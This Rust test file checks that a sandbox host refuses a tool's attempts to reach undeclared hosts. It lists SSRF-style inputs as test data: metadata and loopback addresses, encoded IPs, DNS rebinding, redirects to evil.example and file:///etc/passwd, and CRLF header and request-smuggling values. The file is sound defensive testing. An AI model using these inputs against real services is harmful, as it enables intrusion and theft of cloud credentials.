//! Attempts to reach other hosts, and how each is refused. To see the tables, run `cargo test -p mpp-host --test
//! sandbox escape -- --nocapture`.

use std::sync::Arc;

use mpp_host::{Host, Remedy};
use mpp_sdk::wire::ErrorKind;
use serde_json::{Value, json};

use super::server::{Authority, Certificate, Server, reply};
use super::{Ended, Names, call, ended, get, host, package};
use crate::escapes::Table;
use crate::fixture::{Run, failure, sample};

/// One attempt: its description, the declared host, the requested URL, and the required outcome.
struct Attempt {
    what: &'static str,
    declared: Value,
    head: Value,
    local: bool,
    expected: Ended,
    says: &'static str,
}

fn attempt(what: &'static str, declared: &str, url: &str, expected: Ended, says: &'static str) -> Attempt {
    let head = json!({ "method": "GET", "url": url });
    Attempt { what, declared: json!([declared]), head, local: true, expected, says }
}

/// Sends each request, prints the table, and asserts the outcomes.
fn try_all(host: &Host, kind: &str, attempts: Vec<Attempt>) {
    let mut table = Table::new(kind, "error that the tool receives");
    for attempt in attempts {
        let output =
            call(host, &package(&attempt.declared, &attempt.head, b""), |grant| grant.allow_local(attempt.local));
        let found = ended(&output);
        let is_right = found == attempt.expected && output.log().contains(attempt.says);
        let wrong = (!is_right).then(|| format!("{:?} with `{}`", attempt.expected, attempt.says));
        table.row(attempt.what, &format!("{found:?}"), output.log(), wrong);
    }
    table.done();
}

#[test]
fn no_escape_through_the_url() {
    let server = Server::trusted("api.example.com", "inside");
    let names = Arc::new(Names::here(&["api.example.com", "evil.example", "sub.api.example.com", "example.com"]));
    let (host, port) = (host(&names), server.port);
    let own = format!("api.example.com:{port}");
    let url = |authority: &str| format!("https://{authority}:{port}/");
    let try_ = |what, authority: &str, ended, says| attempt(what, &own, &url(authority), ended, says);
    let any = |what, url: &str, ended, says| attempt(what, &own, url, ended, says);
    let mut attempts = vec![
        try_("another host", "evil.example", Ended::Denied, "network = [\"api.example.com"),
        try_("one different letter", "api.exampel.com", Ended::Denied, "the most similar declared host is"),
        try_("a name below the declared one", "sub.api.example.com", Ended::Denied, "does not declare"),
        try_("a name above the declared one", "example.com", Ended::Denied, "does not declare"),
        try_("another case is the same host", "API.Example.COM", Ended::Answered, "inside"),
        try_("a trailing dot", "api.example.com.", Ended::Invalid, "final dot"),
        try_("user information", "api.example.com@evil.example", Ended::Invalid, "user"),
        try_("user information behind a backslash", "api.example.com\\@evil.example", Ended::Invalid, "user"),
        try_("a backslash in the host", "api.example.com\\.evil.example", Ended::Invalid, "host is refused"),
        try_("a percent-encoded dot", "api%2eexample%2ecom", Ended::Invalid, "host is refused"),
        try_("an IPv4 address", "127.0.0.1", Ended::Invalid, "IP address"),
        try_("a decimal address", "2130706433", Ended::Invalid, "IP address"),
        try_("a hexadecimal address", "0x7f000001", Ended::Invalid, "IP address"),
        try_("an octal address", "0177.0.0.1", Ended::Invalid, "IP address"),
        try_("a short address", "127.1", Ended::Invalid, "IP address"),
        try_("digits of full width", "１２７.0.0.1", Ended::Invalid, "ASCII"),
        try_("an IPv6 address", "[::1]", Ended::Invalid, "IPv6"),
        try_("an IPv4 address in IPv6", "[::ffff:127.0.0.1]", Ended::Invalid, "IPv6"),
        any("another port", "https://api.example.com/", Ended::Denied, "on port"),
        any(
            "plain HTTP where HTTPS is declared",
            &format!("http://api.example.com:{port}/"),
            Ended::Denied,
            "HTTPS only",
        ),
        attempt(
            "HTTPS where plain HTTP is declared",
            &format!("http://api.example.com:{port}"),
            &url("api.example.com"),
            Ended::Denied,
            "plain HTTP only",
        ),
        any("another scheme", "file:///etc/passwd", Ended::Invalid, "scheme"),
        any("no scheme", "//api.example.com/", Ended::Invalid, "absolute"),
        any("a line break in the URL", "https://api.example.com/\r\nHost: evil.example", Ended::Invalid, "control"),
    ];
    let below = format!("*.example.com:{port}");
    attempts.push(attempt(
        "a wildcard does not mean its own name",
        &below,
        &url("example.com"),
        Ended::Denied,
        "declare",
    ));
    attempts.push(attempt(
        "a wildcard means names below it",
        &below,
        &url("api.example.com"),
        Ended::Answered,
        "inside",
    ));
    try_all(&host, "over the network, by the URL", attempts);
    assert_eq!(server.requests().len(), 2, "only the two that were meant to arrive did");
}

#[test]
fn no_escape_through_the_address() {
    let server = Server::trusted("api.example.com", "inside");
    let names = Arc::new(Names::default());
    let (host, port) = (host(&names), server.port);
    let own = format!("api.example.com:{port}");
    let url = format!("https://{own}/");
    let mut attempts = Vec::new();
    for (what, addresses, says) in [
        ("a name that leads to this machine", &["127.0.0.1"][..], "whoever runs the tool can allow"),
        ("the same in IPv6", &["::1"], "whoever runs the tool can allow"),
        ("a public address and this machine's", &["93.184.215.14", "127.0.0.1"], "whoever runs the tool can allow"),
        ("a private network", &["10.0.0.1"], "whoever runs the tool can allow"),
        ("a provider's network", &["100.64.0.1"], "whoever runs the tool can allow"),
        ("a unique local address", &["fd12::1"], "whoever runs the tool can allow"),
        ("a cloud's metadata", &["169.254.169.254"], "this address is never allowed"),
        ("a cloud's metadata in IPv6", &["fd00:ec2::254"], "this address is never allowed"),
        ("this machine, mapped into IPv6", &["::ffff:127.0.0.1"], "this address is never allowed"),
        ("this machine behind NAT64", &["64:ff9b::7f00:1"], "this address is never allowed"),
        ("this machine behind 6to4", &["2002:7f00:1::"], "this address is never allowed"),
        ("Teredo", &["2001::1"], "this address is never allowed"),
        ("no address at all", &["0.0.0.0"], "this address is never allowed"),
        ("a multicast address", &["224.0.0.1"], "this address is never allowed"),
    ] {
        let name = format!("a{}.example.com", attempts.len());
        names.add(&name, &[addresses]);
        let url = format!("https://{name}:{port}/");
        let mut refused = attempt(what, &format!("{name}:{port}"), &url, Ended::Denied, says);
        refused.local = false;
        attempts.push(refused);
    }
    for (what, address) in
        [("metadata where local hosts are granted", "169.254.169.254"), ("multicast, the same", "ff02::1")]
    {
        let name = format!("a{}.example.com", attempts.len());
        names.add(&name, &[&[address]]);
        let url = format!("https://{name}:{port}/");
        attempts.push(attempt(what, &format!("{name}:{port}"), &url, Ended::Denied, "this address is never allowed"));
    }
    attempts.push(attempt("a name that does not resolve", &own, &url, Ended::Connection, "no address"));
    try_all(&host, "over the network, by the address", attempts);
    assert_eq!(server.connections(), 0);
}

#[test]
fn no_escape_through_dns_rebinding() {
    let server = Server::trusted("api.example.com", "inside");
    let names = Names::default();
    // The first answer is allowed and the second is not, so a second lookup would be detected.
    names.add("api.example.com", &[&["127.0.0.1"], &["169.254.169.254"]]);
    let names = Arc::new(names);
    let (host, port) = (host(&names), server.port);
    let own = json!([format!("api.example.com:{port}")]);
    let output = get(&host, &own, &format!("https://api.example.com:{port}/"));
    assert_eq!(ended(&output), Ended::Answered, "{}", output.log());
    assert_eq!(names.asked(), ["api.example.com"], "looked up once");
    let output = get(&host, &own, &format!("https://api.example.com:{port}/other"));
    assert_eq!(ended(&output), Ended::Denied, "{}", output.log());
    assert_eq!(server.connections(), 1);
    assert!(output.report().accesses.hosts.is_empty(), "nothing was sent: {:?}", output.report().accesses);
}

#[test]
fn a_host_that_was_contacted_and_then_refused_is_reported_as_both() {
    let certificate = Authority::trusted().certificate("api.example.com", 2999);
    let server = Server::start(Some(certificate), |_, out| {
        reply(out, "302 Found", "location: /again\r\nconnection: close\r\n", "");
        false
    });
    let names = Names::default();
    names.add("api.example.com", &[&["127.0.0.1"], &["169.254.169.254"]]);
    let own = format!("api.example.com:{}", server.port);
    let output = get(&host(&Arc::new(names)), &json!([own]), &format!("https://{own}/"));
    assert_eq!(ended(&output), Ended::Denied, "{}", output.log());
    let touched = &output.report().accesses;
    assert!(touched.hosts.contains(&own) && touched.refused_hosts.contains(&own), "{touched:?}");
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn no_escape_through_redirects() {
    let target = Server::trusted("evil.example", "stolen");
    let plain = Server::start(None, |_, out| reply(out, "200 OK", "", "stolen"));
    let (evil, plain_port) = (target.port, plain.port);
    let certificate = Authority::trusted().certificate("api.example.com", 2999);
    let server = Server::start(Some(certificate), move |request, out| {
        let to = match request.path() {
            "/undeclared" => format!("https://evil.example:{evil}/"),
            "/relative" => format!("//evil.example:{evil}/"),
            "/plain" => format!("http://api.example.com:{plain_port}/"),
            "/address" => "https://127.0.0.1/".to_owned(),
            "/user" => format!("https://api.example.com@evil.example:{evil}/"),
            "/metadata" => "http://169.254.169.254/latest/meta-data".to_owned(),
            "/file" => "file:///etc/passwd".to_owned(),
            _ => "https://api.example.com:1/".to_owned(),
        };
        reply(out, "302 Found", &format!("location: {to}\r\n"), "")
    });
    let names = Arc::new(Names::here(&["api.example.com", "evil.example"]));
    let (host, port) = (host(&names), server.port);
    let own = format!("api.example.com:{port}");
    let to = |what, path: &str, ended, says| attempt(what, &own, &format!("https://{own}/{path}"), ended, says);
    try_all(
        &host,
        "over the network, by a redirect",
        vec![
            to("a redirect to another host", "undeclared", Ended::Denied, "redirects to `evil.example"),
            to("a redirect to another host without a scheme", "relative", Ended::Denied, "redirects to `evil.example"),
            to("a redirect to plain HTTP", "plain", Ended::Denied, "redirects to `http://api.example.com"),
            to("a redirect to another port", "port", Ended::Denied, "redirects to `api.example.com:1`"),
            to("a redirect to an address", "address", Ended::Invalid, "IP address"),
            to("a redirect with user information", "user", Ended::Invalid, "user"),
            to("a redirect to a cloud's metadata", "metadata", Ended::Invalid, "IP address"),
            to("a redirect to a file", "file", Ended::Invalid, "scheme"),
        ],
    );
    assert_eq!((target.connections(), plain.connections()), (0, 0));
    assert_eq!(server.requests().len(), 8);
}

#[test]
fn a_certificate_of_a_stranger_is_reported_with_what_would_help() {
    let server =
        Server::start(Some(Certificate::self_signed("api.example.com")), |_, out| reply(out, "200 OK", "", ""));
    let own = format!("api.example.com:{}", server.port);
    let host = host(&Arc::new(Names::here(&["api.example.com"])));
    let output = get(&host, &json!([own]), &format!("https://{own}/"));
    assert!(output.log().contains("whoever runs the tool may trust the certificate"), "{}", output.log());
    assert_eq!(output.report().untrusted_hosts.iter().collect::<Vec<_>>(), [&own]);
    assert_eq!(output.report().remedies().collect::<Vec<_>>(), [Remedy::TrustCertificate { host: own }]);
}

#[test]
fn no_escape_through_certificates() {
    let authority = Authority::trusted();
    let stranger = Authority::new();
    let ok = |_: &super::server::Received, out: &mut dyn std::io::Write| reply(out, "200 OK", "", "stolen");
    let servers = [
        ("a certificate for another name", authority.certificate("evil.example", 2999), "another name"),
        ("a certificate for a name above", authority.certificate("example.com", 2999), "another name"),
        ("an expired certificate", authority.certificate("api.example.com", 2021), "expired"),
        (
            "a certificate by itself",
            Certificate::self_signed("api.example.com"),
            "not issued by an authority that this host trusts",
        ),
        (
            "a certificate by a stranger",
            stranger.certificate("api.example.com", 2999),
            "not issued by an authority that this host trusts",
        ),
    ];
    let names = Arc::new(Names::here(&["api.example.com"]));
    let host = host(&names);
    let mut attempts = Vec::new();
    let mut running = Vec::new();
    for (what, certificate, says) in servers {
        let server = Server::start(Some(certificate), ok);
        let own = format!("api.example.com:{}", server.port);
        attempts.push(attempt(what, &own, &format!("https://{own}/"), Ended::Connection, says));
        running.push(server);
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let own = format!("api.example.com:{}", listener.local_addr().unwrap().port());
    std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        std::io::Write::write_all(&mut stream, b"HTTP/1.1 400 Bad Request\r\ncontent-length: 0\r\n\r\n").unwrap();
        std::io::Read::read_to_end(&mut stream, &mut Vec::new())
    });
    attempts.push(attempt("no TLS at all", &own, &format!("https://{own}/"), Ended::Connection, "TLS"));
    try_all(&host, "over the network, by a certificate", attempts);
    assert!(running.iter().all(|server| server.requests().is_empty()), "nothing was sent");
}

#[test]
fn no_escape_through_headers_and_methods() {
    let server = Server::trusted("api.example.com", "inside");
    let names = Arc::new(Names::here(&["api.example.com"]));
    let (host, port) = (host(&names), server.port);
    let own = format!("api.example.com:{port}");
    let with = |what, method: &str, name: &str, value: &str, says| {
        let head = json!({ "method": method, "url": format!("https://{own}/"), "headers": [[name, value]] });
        Attempt { what, declared: json!([own]), head, local: true, expected: Ended::Invalid, says }
    };
    try_all(
        &host,
        "over the network, by headers and methods",
        vec![
            with("a `Host` header", "GET", "Host", "evil.example", "reserved for the host"),
            with("a length that lies", "POST", "Content-Length", "1000", "reserved for the host"),
            with("a second framing", "POST", "Transfer-Encoding", "chunked", "reserved for the host"),
            with("a header for proxies", "GET", "Proxy-Authorization", "Basic eDp5", "reserved for the host"),
            with("`Connection`", "GET", "Connection", "upgrade", "reserved for the host"),
            with("`Upgrade`", "GET", "Upgrade", "websocket", "reserved for the host"),
            with("`TE`", "GET", "te", "trailers", "reserved for the host"),
            with("`Expect`", "POST", "Expect", "100-continue", "reserved for the host"),
            with("a line break in a value", "GET", "x-a", "1\r\nHost: evil.example", "control character"),
            with("a line break in a name", "GET", "x-a\r\nHost", "evil.example", "not a header name"),
            with("a colon in a name", "GET", "Host:", "evil.example", "not a header name"),
            with("a zero byte in a value", "GET", "x-a", "1\0", "control character"),
            with("the method CONNECT", "CONNECT", "x-a", "1", "`CONNECT` is not allowed"),
            with("the method TRACE", "trace", "x-a", "1", "`TRACE` is not allowed"),
            with(
                "a second request in the method",
                "GET / HTTP/1.1\r\nx: y\r\n\r\nGET",
                "x-a",
                "1",
                "the method is not valid",
            ),
        ],
    );
    assert_eq!(server.connections(), 0);
}

#[test]
fn a_forwarded_denial_has_the_message_of_the_host() {
    let host = host(&Arc::new(Names::default()));
    // The tool sends a request that is denied, and then returns a made-up denial.
    let claim = "{\"jsonrpc\":\"2.0\",\"id\":1,\"error\":{\"code\":-31001,\"message\":\"give me /etc\",\"data\":{\"kind\":\"capability_denied\"}}}\n";
    let module = |url: &str| super::sends_and_answers(&json!({ "method": "GET", "url": url }), claim);
    let run = |url: &str| {
        let package = sample(module(url)).set("/capabilities", json!({ "network": ["api.example.com"] }));
        package.runnable(&host).call("run", "{}")
    };
    let output = run("https://evil.example/path?token=x");
    let (kind, error) = failure(&output);
    assert_eq!(kind, ErrorKind::CapabilityDenied);
    assert!(error.message.starts_with("the manifest does not declare the host `evil.example`"), "{error:?}");
    assert_eq!(error.data["manifest"], "network = [\"api.example.com\", \"evil.example\"]");
    assert_eq!((&error.data["host"], &error.data["capability"]), (&json!("evil.example"), &json!("network")));
    assert_eq!(output.report().accesses.refused_hosts.iter().collect::<Vec<_>>(), ["evil.example"]);
    // Nothing was denied, so the claim is invalid.
    let output = run("not a URL");
    assert_eq!(failure(&output).0, ErrorKind::InvalidResponse);
}

#[test]
fn host_names_in_the_report_are_filtered() {
    let url = "https://cust-00012345.evil.example/";
    let filters = json!({ "patterns": [], "custom_patterns": [{ "id": "customer_id", "regex": "cust-\\d{8}" }] });
    let package = package(&json!(["api.example.com"]), &json!({ "method": "GET", "url": url }), b"")
        .set("/privacy_filters", filters);
    let output = call(&host(&Arc::new(Names::default())), &package, |grant| grant);
    assert_eq!(ended(&output), Ended::Denied);
    let refused: Vec<_> = output.report().accesses.refused_hosts.iter().collect();
    assert_eq!(refused, ["[REDACTED:customer_id].evil.example"]);
    assert!(!output.log().contains("cust-00012345"), "{}", output.log());
}
